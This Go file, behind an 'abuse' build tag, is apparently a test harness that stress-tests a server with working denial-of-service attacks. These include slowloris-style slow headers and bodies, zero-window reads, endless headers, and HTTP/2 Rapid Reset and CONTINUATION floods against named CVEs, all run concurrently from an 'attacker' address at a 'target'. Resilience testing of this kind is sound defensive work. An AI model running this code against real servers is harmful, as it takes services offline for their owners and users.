// SPDX-License-Identifier: Apache-2.0

//go:build abuse

package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
)

// dialTCP connects from an attacker's address.
func dialTCP(ctx context.Context, receiveBuffer int) (net.Conn, error) {
	d := net.Dialer{
		LocalAddr: &net.TCPAddr{IP: attacker},
		Timeout:   5 * time.Second,
		Control: func(_, _ string, c syscall.RawConn) error {
			if receiveBuffer == 0 {
				return nil
			}
			return c.Control(func(fd uintptr) {
				_ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, receiveBuffer)
			})
		},
	}
	return d.DialContext(ctx, "tcp4", target.String())
}

func dialTLS(ctx context.Context, protocol string, receiveBuffer int) (*tls.Conn, error) {
	raw, err := dialTCP(ctx, receiveBuffer)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, ServerName: siteHost, NextProtos: []string{protocol}})
	if err := conn.HandshakeContext(ctx); err != nil {
		raw.Close()
		return nil, err
	}
	return conn, nil
}

// crowd keeps n calls of do running until ctx ends, and returns how often it started one.
// Errors are ignored, because the victim may refuse.
func crowd(ctx context.Context, n int, do func(context.Context) error) (int, error) {
	var begun atomic.Int64
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				begun.Add(1)
				if do(ctx) != nil {
					pause(ctx, 50*time.Millisecond) // refused: avoid a busy loop
				}
			}
		})
	}
	wg.Wait()
	return int(begun.Load()), nil
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// dribble sends a byte at a time until ctx ends or the victim closes the connection.
func dribble(ctx context.Context, w io.Writer) error {
	for ctx.Err() == nil {
		if _, err := w.Write([]byte("x")); err != nil {
			return err
		}
		pause(ctx, 200*time.Millisecond)
	}
	return nil
}

// silentTCP connects and sends nothing.
func silentTCP(ctx context.Context) error {
	conn, err := dialTCP(ctx, 0)
	if err != nil {
		return err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	_, err = conn.Read(make([]byte, 1))
	return err
}

func handshakeTCP(ctx context.Context) error {
	conn, err := dialTLS(ctx, "http/1.1", 0)
	if err != nil {
		return err
	}
	return conn.Close()
}

func slowHeaderTCP(ctx context.Context) error {
	return slowTCP(ctx, "GET / HTTP/1.1\r\nHost: "+siteHost+"\r\nX-Slow: ")
}

func slowBodyTCP(ctx context.Context) error {
	return slowTCP(ctx, "POST /sink HTTP/1.1\r\nHost: "+originHost+"\r\nContent-Length: 1000000000\r\n\r\n")
}

func slowTCP(ctx context.Context, first string) error {
	conn, err := dialTLS(ctx, "http/1.1", 0)
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, first); err != nil {
		return err
	}
	return dribble(ctx, conn)
}

// zeroWindowTCP requests much and reads nothing.
func zeroWindowTCP(ctx context.Context) error {
	conn, err := dialTLS(ctx, "http/1.1", 1)
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", bigFile, siteHost); err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

// headerBombTCP sends one header without end.
func headerBombTCP(ctx context.Context) error {
	conn, err := dialTLS(ctx, "http/1.1", 0)
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: "+siteHost+"\r\nX-Long: "); err != nil {
		return err
	}
	return endless(ctx, conn, make16K('a'))
}

func make16K(c byte) []byte {
	b := make([]byte, 16<<10)
	for i := range b {
		b[i] = c
	}
	return b
}

func endless(ctx context.Context, w io.Writer, b []byte) error {
	for ctx.Err() == nil {
		if _, err := w.Write(b); err != nil {
			return err
		}
	}
	return nil
}

// http2Conn begins an HTTP/2 connection and discards its answers.
func http2Conn(ctx context.Context, settings ...http2.Setting) (*http2.Framer, func(), error) {
	conn, err := dialTLS(ctx, "h2", 0)
	if err != nil {
		return nil, nil, err
	}
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	end := func() { stop(); conn.Close() }
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		end()
		return nil, nil, err
	}
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(settings...); err != nil {
		end()
		return nil, nil, err
	}
	go io.Copy(io.Discard, conn)
	return framer, end, nil
}

// rapidResetHTTP2 opens streams and resets them at once (CVE-2023-44487).
func rapidResetHTTP2(ctx context.Context) (streams int, err error) {
	for ctx.Err() == nil {
		framer, end, err := http2Conn(ctx)
		if err != nil {
			pause(ctx, 50*time.Millisecond)
			continue
		}
		for id := uint32(1); ctx.Err() == nil; id += 2 {
			p := http2.HeadersFrameParam{StreamID: id, BlockFragment: statelessRequest(bigFile), EndHeaders: true, EndStream: true}
			if framer.WriteHeaders(p) != nil || framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				break
			}
			streams++
		}
		end()
	}
	return streams, nil
}

// statelessRequest is a request of literal fields that change no table (RFC 7541, section 6.2.2).
func statelessRequest(path string) []byte {
	var b []byte
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", siteHost}, {":path", path}} {
		b = append(b, 0, byte(len(f[0])))
		b = append(b, f[0]...)
		b = append(b, byte(len(f[1])))
		b = append(b, f[1]...)
	}
	return b
}

// continuationFlood sends header fragments without end (CVE-2023-45288).
func continuationFlood(ctx context.Context) error {
	framer, end, err := http2Conn(ctx)
	if err != nil {
		return err
	}
	defer end()
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: statelessRequest("/"), EndStream: true}); err != nil {
		return err
	}
	const value = 15900 // bytes of each field
	fragment := append([]byte{0, 1, 'x', 0x7f, 0x80 | (value-127)&0x7f, (value - 127) >> 7}, make16K('a')[:value]...)
	for ctx.Err() == nil {
		if err := framer.WriteContinuation(1, false, fragment); err != nil {
			return err
		}
	}
	return nil
}

// tinyWindowHTTP2 requests much on every stream and grants a window of one byte.
func tinyWindowHTTP2(ctx context.Context) error {
	framer, end, err := http2Conn(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	if err != nil {
		return err
	}
	defer end()
	for i := range uint32(250) {
		p := http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: statelessRequest(bigFile), EndHeaders: true, EndStream: true}
		if err := framer.WriteHeaders(p); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return nil
}
